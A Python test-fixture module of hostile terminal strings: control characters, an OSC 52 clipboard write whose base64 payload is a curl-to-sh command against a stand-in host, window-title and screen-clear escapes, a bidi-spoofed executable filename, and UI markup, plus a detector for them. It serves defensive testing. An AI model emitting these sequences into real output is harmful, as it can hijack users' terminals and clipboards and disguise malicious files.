"""Hostile text, in one place for every test that pushes it somewhere: what a listing, an
engine, a reviewer, a webhook or a remote API may write to make a terminal (or the review
UI) act instead of show: every C0 and C1 control character, the escape sequences an
adversarial probe captured (an OSC 52 clipboard write, an OSC 0 window title, a CSI 2J
screen clear), bidi overrides and isolates, and Rich/Textual markup.

`raw_controls(output)` is the check: what in `output` a terminal would act on. It is
written apart from config.terminal on purpose, so a mistake there cannot hide itself."""

from __future__ import annotations

import re

C0 = "".join(chr(c) for c in range(0x20))  # NUL included: see STORABLE
C1 = "\x7f" + "".join(chr(c) for c in range(0x80, 0xA0))
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # puts a command on the clipboard
WINDOW_TITLE = "\x1b]0;pwned\x07"
CLEAR = "\x1b[2J\x1b[3J\x1b[H"
CSI_8BIT = "\x9b2J"  # the same clear as one C1 character
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
REORDERED = "invoice\u202egpj.exe"  # shows as invoiceexe.jpg where bidi is obeyed
SEPARATORS = "\u2028\u2029"
MARKUP = ("[/bogus]", "[bold red]x", "[@click=app.quit]quit[/]", "[ops] li", "[link=x]l[/link]")

TEXTS: dict[str, str] = {
    "c0": C0,
    "c1": C1,
    "osc52": OSC52,
    "title": WINDOW_TITLE,
    "clear": CLEAR,
    "csi-8bit": CSI_8BIT,
    "bidi": BIDI + REORDERED,
    "separators": SEPARATORS,
    **{f"markup-{n}": m for n, m in enumerate(MARKUP)},
}
EVERYTHING = "".join(TEXTS.values())
# What a store can hold: PostgreSQL's text refuses NUL, which no importer lets in.
STORABLE = EVERYTHING.replace("\x00", "")
# A person's name on a command line (one argument: no NUL, which argv cannot carry).
NAME = "[/bogus]" + WINDOW_TITLE + "\u202eop[bold red]x"

# What a terminal acts on: C0 controls but line feed and tab, DEL, C1, the line and
# paragraph separators, bidi embeddings, overrides and isolates.
_RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def raw_controls(output: str) -> list[str]:
    """Each character in `output` a terminal would act on, with a little context."""
    return [
        f"U+{ord(m.group()):04X} in {output[max(0, m.start() - 20) : m.end() + 20]!r}"
        for m in _RAW.finditer(output)
    ]
